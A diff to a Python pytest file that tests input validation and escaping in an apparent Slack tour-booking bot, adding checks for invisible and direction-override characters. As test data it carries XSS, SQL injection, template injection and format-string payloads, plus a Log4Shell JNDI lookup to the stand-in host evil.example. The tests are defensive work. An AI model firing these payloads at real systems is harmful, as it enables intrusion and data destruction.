@@ -4,8 +4,8 @@ the right input or is shown escaped; never a crash, a traceback, or a message Sl
 
 from __future__ import annotations
 
+import json
 import logging
-import re
 from collections.abc import AsyncIterator, Iterator, Mapping
 from pathlib import Path
 from typing import Any
@@ -13,6 +13,7 @@ from typing import Any
 import pytest
 from slack_sdk.models.views import View
 
+from bot.booking.text import unwanted
 from bot.offline.propexo import SimulatorServer
 from bot.offline.slack import DEFAULT_AGENT_ID, DEFAULT_CHANNEL_ID, SlackStandIn
 from bot.store import BookingState
@@ -147,6 +148,8 @@ TOUR_TEXTS = {
     "html": "<script>alert(1)</script><img src=x onerror=alert(1)> tomorrow at 3pm",
     "byte order mark": "\ufeffJane Doe jane@example.com tomorrow at 3pm",
     "only noise": "\u200b\u200b\u200b ‮ ",
+    "hidden in a name and notes": "Jane D\u200boe jane@example.com tomorrow at 3pm. Notes: call "
+    "af\u200bter 5 \u202eplease \U000e0041",
 }
 
 
@@ -157,6 +160,8 @@ async def test_tour_text_opens_a_valid_form(bot: RunningBot, text: str) -> None:
     view = bot.slack.view(view_id)
     assert view is not None
     View(**view.to_json()).validate_json()
+    # Read without the characters nobody can see: the form it fills does not refuse itself.
+    assert unwanted(json.dumps(view.blocks, ensure_ascii=False)) is None
     assert_nothing_live(shown(bot))
     assert_slack_took_everything(bot)
 
@@ -178,7 +183,9 @@ PROBLEMS = [
     ("notes", "x" * 1001, "Notes must be at most 1,000 characters"),
     ("email", "<!channel>@example.com", "Email must look like name@example.com"),
     ("email", "jane@example.com'; DROP TABLE bookings;--", "Email must look like"),
-    ("email", "\u202ejane@example.com", "Email must look like"),
+    ("email", "\u202ejane@example.com", "Email holds a direction override (U+202E) that nobody"),
+    ("first_name", "Jane\x00", "First name holds a control character (U+0000) that nobody"),
+    ("notes", "a\u200bb", "Notes holds a zero-width space (U+200B) that nobody can see"),
     ("phone", "<@U0HOSTILE>", "Phone must be a number like"),
     ("phone", "555-201-7788; DROP TABLE bookings", "Phone must be a number like"),
     ("phone", "٥٥٥٢٠١٧٧٨٨", "Phone must be a number like"),
@@ -192,7 +199,7 @@ PROBLEMS = [
     ("community", "cmty_1' OR '1'='1", "Community must be picked from the list"),
     ("prospect", "p" * 300, "Prospect must be picked from the search"),
     ("tour_time", "{{7*7}} <!channel>", None),
-    ("tour_time", "\x00\x01\x02", 'Add the tour time, like "tomorrow at 3pm"'),
+    ("tour_time", "\x00\x01\x02", "Tour time holds a control character (U+0000)"),
     ("tour_time", "🕒🕒🕒", None),
     ("tour_time", "غدا الساعة ٣", None),
 ]
@@ -216,20 +223,19 @@ async def test_a_bad_value_gets_a_clear_error_under_its_input(
 
 
 def as_sent(typed: str) -> str:
-    """What the form keeps of a name: no control characters or lone surrogates, one line."""
-    return " ".join(re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]", "", typed).split())
+    """What the form keeps of a name: one line (characters nobody can see are refused)."""
+    return " ".join(typed.split())
 
 
 # -- accepted, and shown escaped --------------------------------------------------------------
 
 STRANGE_BUT_VALID = {
     "emoji": ("Zoë 😀", "O'Brien-Ñúñez 🏠"),
-    "right to left": ("مريم", "\u202eכהן\u202c"),
+    "right to left": ("مريم", "כהן"),
     "sql": ("Robert'); DROP TABLE bookings;--", "x' OR '1'='1"),
     "templates": ("{{7*7}}", "${jndi:ldap://evil.example/a} %s %n"),
     "json and html": ('{"a": [1, 2]}', "<script>alert(1)</script> &amp; &lt;"),
-    "control characters": ("Jane\x00\x07", "Doe\x1b[31m\x7f"),
-    "lone surrogates": ("Jane\udcff", "\ud800Doe\ufeff"),
+    "joiners": ("\u0645\u0647\u200c\u0633\u0627", "Doe \U0001f468\u200d\U0001f469"),
 }
 
 
